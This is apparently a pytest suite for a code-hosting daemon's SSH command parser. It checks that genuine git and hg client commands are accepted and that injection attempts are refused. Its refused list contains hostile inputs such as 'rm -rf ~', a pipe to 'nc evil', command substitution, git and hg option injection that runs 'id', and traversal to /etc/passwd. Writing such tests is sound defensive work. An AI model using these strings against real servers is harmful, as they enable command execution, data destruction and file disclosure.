"""SSH_ORIGINAL_COMMAND parsing: what git, libgit2 and hg send is accepted, nothing else ever is."""

from __future__ import annotations

import pytest

from hostd.names import RepoName
from hostd.ssh.command import USAGE, Refused, parse
from singlemalt import Action

ACCEPTED = [
    # git over ssh://git@host:port/alice/proj.git and git@host:alice/proj.git
    ("git-upload-pack '/alice/proj.git'", "git-upload-pack", "alice/proj.git", Action.READ),
    ("git-upload-pack 'alice/proj.git'", "git-upload-pack", "alice/proj.git", Action.READ),
    ("git-receive-pack '/alice/proj.git'", "git-receive-pack", "alice/proj.git", Action.WRITE),
    ("git-upload-pack '/alice/proj'", "git-upload-pack", "alice/proj", Action.READ),
    ("git-upload-pack 'alice/proj.git/'", "git-upload-pack", "alice/proj.git", Action.READ),
    # unquoted, as some tools and people type it; "git upload-pack" as older clients send it
    ("git-upload-pack alice/proj.git", "git-upload-pack", "alice/proj.git", Action.READ),
    ("git upload-pack '/alice/proj.git'", "git-upload-pack", "alice/proj.git", Action.READ),
    ("git receive-pack 'alice/proj.git'", "git-receive-pack", "alice/proj.git", Action.WRITE),
    # names in any case reach the canonical repository
    ("git-upload-pack '/Alice/Proj.GIT'", "git-upload-pack", "Alice/Proj.GIT", Action.READ),
    # quoting pieces together, as git's sq_quote does
    ("git-upload-pack 'alice/'proj.git", "git-upload-pack", "alice/proj.git", Action.READ),
    # hg over ssh://hg@host/alice/proj
    ("hg -R alice/proj serve --stdio", "hg-serve", "alice/proj", Action.READ),
    ("hg -R /alice/proj serve --stdio", "hg-serve", "alice/proj", Action.READ),
    ("hg -R 'alice/proj' serve --stdio", "hg-serve", "alice/proj", Action.READ),
]


@pytest.mark.parametrize(("text", "service", "path", "action"), ACCEPTED)
def test_what_clients_send_is_accepted(text: str, service: str, path: str, action: Action) -> None:
    cmd = parse(text)
    assert (cmd.service, cmd.path, cmd.action) == (service, path, action)
    assert cmd.repo == RepoName(path.split("/")[0].lower(), path.split("/")[1].lower().removesuffix(".git"))


REFUSED = [
    # injection: anything a shell would act on
    "git-upload-pack 'alice/proj.git'; rm -rf ~",
    "git-upload-pack 'alice/proj.git' && id",
    "git-upload-pack 'alice/proj.git' | nc evil 1",
    "git-upload-pack `id`",
    "git-upload-pack $(id)",
    "git-upload-pack \"alice/proj.git\"",
    "git-upload-pack 'alice/proj.git'\nid",
    "git-upload-pack 'alice/proj.git'\rid",
    "git-upload-pack alice/proj.git\x00id",
    "git-upload-pack 'alice/proj.git' > /etc/passwd",
    "git-upload-pack alice/*",
    "git-upload-pack ~alice/proj.git",
    "git-upload-pack $HOME",
    # quotes that hide a second word or never end
    "git-upload-pack 'alice/proj.git' 'other/repo.git'",
    "git-upload-pack 'alice/proj.git",
    "git-upload-pack 'alice/proj.git'\\'' --upload-pack=id'",
    # options and other commands
    "git-upload-pack --upload-pack=touch alice/proj.git",
    "git-upload-pack -c core.sshCommand=id alice/proj.git",
    "git-upload-archive 'alice/proj.git'",
    "git-shell -c 'git-upload-pack alice/proj.git'",
    "git upload-pack --help",
    "git -c core.fsmonitor=id upload-pack alice/proj.git",
    "sh -c id",
    "scp -t /tmp/x",
    "sftp",
    "internal-sftp",
    "rsync --server . /",
    "hg -R alice/proj serve --stdio --debugger",
    "hg -R alice/proj --config hooks.pre-serve=id serve --stdio",
    "hg --config ui.ssh=id -R alice/proj serve --stdio",
    "hg -R alice/proj serve",
    "hg -R alice/proj debugshell",
    "hg serve --stdio",
    "hg -R alice/proj.git serve --stdio",
    # traversal and paths that are no repository
    "git-upload-pack '../../etc/passwd'",
    "git-upload-pack '/alice/../bob/proj.git'",
    "git-upload-pack 'alice/proj.git/../../x'",
    "git-upload-pack '/srv/repos/alice/proj.git'",
    "git-upload-pack 'alice//proj.git'",
    "git-upload-pack 'alice'",
    "git-upload-pack '.hg/proj.git'",
    "git-upload-pack 'alice/.git'",
    "git-upload-pack '-alice/proj.git'",
    "git-upload-pack 'alice/proj.git.git'",
    "git-upload-pack 'ali ce/proj.git'",
    "git-upload-pack 'alicé/proj.git'",
    "hg -R ../alice/proj serve --stdio",
    # spacing tricks
    "git-upload-pack  'alice/proj.git'",
    " git-upload-pack 'alice/proj.git'",
    "git-upload-pack 'alice/proj.git' ",
    "git-upload-pack\t'alice/proj.git'",
    "git-upload-pack " + "'a" * 600 + "'",
]


@pytest.mark.parametrize("text", REFUSED)
def test_everything_else_is_refused(text: str) -> None:
    with pytest.raises(Refused) as refused:
        parse(text)
    message = str(refused.value)
    assert "\n" not in message and "\x00" not in message and "\r" not in message


def test_no_command_is_told_there_is_no_shell() -> None:
    for text in (None, ""):
        with pytest.raises(Refused, match="there is no shell access"):
            parse(text)


def test_a_refusal_says_what_is_accepted() -> None:
    with pytest.raises(Refused) as refused:
        parse("ls -la")
    assert str(refused.value) == USAGE
